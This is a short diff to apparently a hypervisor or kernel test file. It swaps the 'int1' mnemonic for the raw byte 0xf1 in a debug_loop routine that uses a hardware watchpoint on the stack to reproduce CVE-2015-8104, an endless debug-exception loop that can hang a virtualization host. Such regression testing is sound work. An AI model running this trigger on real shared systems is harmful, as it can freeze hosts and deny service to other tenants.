@@ -157,7 +157,8 @@ __asm__(".globl attack_iret\nattack_iret: iretq\n"
 	".globl attack_iret_error\nattack_iret_error: add $8, %rsp; iretq\n");
 extern const char attack_iret[], attack_iret_error[];
 
-/* Every delivery of #DB writes the watched stack slot, which is a #DB (CVE-2015-8104). */
+/* Every delivery of #DB writes the watched stack slot, which is a #DB (CVE-2015-8104). 0xf1 is
+ * INT1. */
 static const char *debug_loop(void)
 {
 	static uint64_t stack[512] __attribute__((aligned(64)));
@@ -170,7 +171,7 @@ static const char *debug_loop(void)
 			 "mov %1, %%dr7\n\t"
 			 "mov %2, %%rsp\n\t"
 			 "push $0\n"
-			 "1: push $0; pop %%rax; int1; jmp 1b"
+			 "1: push $0; pop %%rax; .byte 0xf1; jmp 1b"
 			 :
 			 : "r"(top - 3), "r"(0x90403ULL), "r"(top)
 			 : "rax");
